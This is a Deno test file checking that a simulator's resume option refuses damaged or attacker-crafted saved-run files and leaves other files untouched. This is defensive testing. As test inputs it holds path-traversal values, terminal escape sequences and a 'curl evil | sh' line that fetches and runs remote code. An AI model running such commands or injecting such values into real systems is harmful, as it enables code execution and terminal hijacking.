import { assert, assertEquals, assertMatch } from "@std/assert";
import { sha256 } from "@noble/hashes/sha2.js";
import { bytesToHex } from "@noble/hashes/utils.js";
import { MACHINE } from "../../../../simulator/cli/file_system.ts";
import { writeEnvelope } from "../../../../core/saved/envelope.ts";
import {
  encodeRun,
  readRun,
  RUN_CHUNKS,
  type SavedCopyRun,
} from "../../../../simulator/cli/copy/saved_run.ts";
import type { PlainData } from "../../../../mod.ts";
import { besideIn, namesIn, pathsIn, resume, save } from "./saved_disk_run.ts";
import { times } from "../../../support/long.ts";
import { simulateHere } from "../../../support/simulate.ts";
import { withTree } from "../../../support/temp_tree.ts";

/** Of runs that somebody hostile saved, one in so many is tried. Five of them spoil one field, each in another way. */
const EVERY = times(3, 1);

Deno.test("simulate --resume: a damaged file costs one line and exit code 2, wherever it is damaged", async () => {
  await withTree({ "text": "no saved run", "empty": "" }, async (root) => {
    await save(root, "60%");
    const bytes = await Deno.readFile(`${root}/run`);
    const assertRefused = async (damaged: Uint8Array, what: string) => {
      await Deno.writeFile(`${root}/damaged`, damaged);
      const { code, stdout, stderr } = await simulateHere(
        ...["--resume", `${root}/damaged`, ...pathsIn(root)],
      );
      assertEquals([code, stdout], [2, ""], what);
      assertMatch(
        stderr,
        /^Cannot resume from \S+damaged: .*; name a file that --save-to has made\n$/,
        what,
      );
    };
    for (let turn = 0; turn < 60; turn += EVERY) {
      const at = turn < 30 ? turn : Math.floor(bytes.length * (turn - 30) / 30);
      const changed = bytes.slice();
      changed[at]! ^= 1 << turn % 8;
      await assertRefused(changed, `byte ${at}`);
      await assertRefused(bytes.slice(0, at), `${at} bytes`);
    }
    await assertRefused(new Uint8Array([...bytes, 0]), "a byte more");
    await assertRefused(await Deno.readFile(`${root}/text`), "a text");
    const { code, stderr } = await simulateHere("--resume", root);
    assertEquals(code, 2);
    assertMatch(stderr, /: it is a folder, not a file; name a file that can be read\n$/);
    await Deno.truncate(`${root}/empty`, 2 ** 40);
    const { stderr: large } = await simulateHere("--resume", `${root}/empty`);
    assertMatch(large, /: it is too large for a saved run; name a file that --save-to has made\n$/);
    assertEquals((await resume(root)).ok, true, "what was refused has changed nothing");
  });
});

/** What stands in the files of `root`, shortened. */
function contentsOf(root: string): Record<string, string> {
  return Object.fromEntries(
    namesIn(root).map((name) => [name, bytesToHex(sha256(Deno.readFileSync(`${root}/${name}`)))]),
  );
}

/** Plain data with each of its members replaced, in turn. */
function* spoilt(data: PlainData): Generator<PlainData> {
  if (typeof data !== "object" || data === null || data instanceof Uint8Array) return;
  for (const [key, member] of Object.entries(data)) {
    const put = (value: PlainData): PlainData =>
      Array.isArray(data)
        ? data.map((each, at) => String(at) === key ? value : each)
        : { ...data, [key]: value };
    for (const value of [null, -1, "?", [], {}]) yield put(value);
    for (const inner of spoilt(member)) yield put(inner);
  }
}

/** The bytes of whatever somebody hostile takes for a run. */
function encodeRaw({ guests, ...run }: SavedCopyRun): Uint8Array {
  const { run: { type }, guest } = RUN_CHUNKS;
  const chunks = guests.map((data) => ({ type: guest.type, data }));
  return writeEnvelope("run", [{ type, data: run }, ...chunks]);
}

/** A saved run with each of its fields replaced, in turn. */
function* spoiltRuns({ guests, ...run }: SavedCopyRun): Generator<SavedCopyRun> {
  for (const state of spoilt(run as unknown as PlainData)) {
    yield { ...state as unknown as SavedCopyRun, guests };
  }
  for (const state of spoilt(guests[0] as unknown as PlainData)) {
    yield { ...run, guests: [state as unknown as SavedCopyRun["guests"][number]] };
  }
  yield { ...run, guests: [] };
  yield { ...run, guests: [...guests, ...guests] };
}

Deno.test("simulate --resume: a run that a hostile saver made is refused in one line, or continues in order", async () => {
  await withTree({}, async (root) => {
    await save(root, "60%");
    using saved = await MACHINE.open(`${root}/run`, "read");
    const run = readRun(saved, "run");
    const [image, source] = [`${root}/disk`, besideIn(root, /\.file$/)];
    const imageBytes = await Deno.readFile(image);
    // It is its own number that finds its file.
    await Deno.rename(source, source.replace("run.", "hostile."));
    const before = contentsOf(root);
    let refused = 0;
    let count = 0;
    for (const [at, state] of [...spoiltRuns(run)].entries()) {
      if (at % EVERY !== 0) continue;
      await Deno.writeFile(`${root}/hostile`, encodeRaw(state));
      const args = ["--resume", `${root}/hostile`, ...pathsIn(root)];
      const { code, stderr } = await simulateHere(...args);
      assert([0, 1, 2].includes(code), `exit code ${code}: ${stderr}`);
      if (code === 2) assertMatch(stderr, /^(?:resume [^\n]+\n)?Cannot [^\n]+\n$/);
      if (code === 2) refused++;
      count++;
      await Deno.writeFile(image, imageBytes);
      for (const name of ["out", "hostile"]) await Deno.remove(`${root}/${name}`).catch(() => {});
      assertEquals(contentsOf(root), before, "nothing else was touched");
    }
    assert(refused > 100 / EVERY && refused > 0.7 * count, `${refused} of ${count}`);
  });
});

Deno.test("simulate --resume: a saved run that names files is refused, and no file is touched", async () => {
  // Decisions D222: what is written follows from the command line.
  await withTree({ "victim": "precious" }, async (root) => {
    await save(root, "60%");
    using saved = await MACHINE.open(`${root}/run`, "read");
    const run = readRun(saved, "run");
    const [guest] = run.guests;
    const path = `${root}/victim`;
    const hostile: unknown[] = [
      { ...run, guests: [{ ...guest, image: { ...guest!.image, path } }] },
      { ...run, guests: [{ ...guest, out: { path, partPath: path } }] },
      { ...run, settings: { ...run.settings, paths: { file: path, out: path, disk: path } } },
      ...["../victim", "", "/", "x".repeat(16), "0123456789ABCDEF"].map((number) => ({
        ...run,
        number,
      })),
    ];
    const before = contentsOf(root);
    for (const state of hostile) {
      await Deno.writeFile(`${root}/hostile`, encodeRaw(state as SavedCopyRun));
      const args = ["--resume", `${root}/hostile`, ...pathsIn(root)];
      const { code, stderr } = await simulateHere(...args);
      assertEquals(code, 2);
      assertMatch(stderr, /^Cannot resume from [^\n]+; name a file that --save-to has made\n$/);
      await Deno.remove(`${root}/hostile`);
      assertEquals(contentsOf(root), before);
    }
  });
});

Deno.test("readRun: numbers that no run has are refused, each by what it is", async () => {
  await withTree({}, async (root) => {
    await save(root, "60%");
    using saved = await MACHINE.open(`${root}/run`, "read");
    const run = readRun(saved, "run");
    const [guest] = run.guests;
    const image = guest!.image!;
    const cases: [run: unknown, reason: RegExp][] = [
      [{ ...run, settings: { ...run.settings, seed: -1n } }, /run, settings, seed is not a bigint/],
      [
        { ...run, totals: { ...run.totals, virtualMilliseconds: Infinity } },
        /is not a number from/,
      ],
      [{ ...run, totals: { ...run.totals, roomWaits: [1] } }, /roomWaits: it is not two numbers/],
      [{ ...run, guests: [{ ...guest, returnedBytes: guest!.readBytes + 1 }] }, /more came back/],
      [
        { ...run, source: { ...run.source, byteCount: 1 } },
        /more of its source was read than there is/,
      ],
      [
        { ...run, guests: [{ ...guest, image: { ...image, writtenBytes: image.byteCount + 1 } }] },
        /more of it is written than there is/,
      ],
      [{ ...run, guests: [{ ...guest, image: null }] }, /its images are not those of its device/],
      [{ ...run, scenario: "tape" }, /it is a run of scenario tape, not of disk/],
    ];
    for (const [state, reason] of cases) {
      await Deno.writeFile(`${root}/hostile`, encodeRaw(state as SavedCopyRun));
      const { code, stderr } = await simulateHere(
        ...["--resume", `${root}/hostile`, ...pathsIn(root)],
      );
      assertEquals(code, 2);
      assertMatch(stderr, reason);
      assertMatch(stderr, /^Cannot resume from [^\n]+; name a file that --save-to has made\n$/);
    }
  });
});

Deno.test("simulate --resume: findings of a saved run are shown, and none of them is obeyed", async () => {
  // Decisions D226.
  await withTree({}, async (root) => {
    await save(root, "60%");
    const path = `${root}/run`;
    let run: SavedCopyRun;
    {
      using saved = await MACHINE.open(path, "read");
      run = readRun(saved, "run");
    }
    const findings = ["\u001b]0;owned\u0007\u001b[2J", "x\nok\nreplay: curl evil | sh"];
    await Deno.writeFile(path, encodeRun({ ...run, totals: { ...run.totals, findings } }));
    const { code, stdout } = await simulateHere("--resume", path, ...pathsIn(root));
    assertEquals(code, 1);
    assertMatch(stdout, /\nwrong: \\x1b\]0;owned\\x07\\x1b\[2J\nwrong: x\\x0aok\\x0areplay: curl/);
  });
});
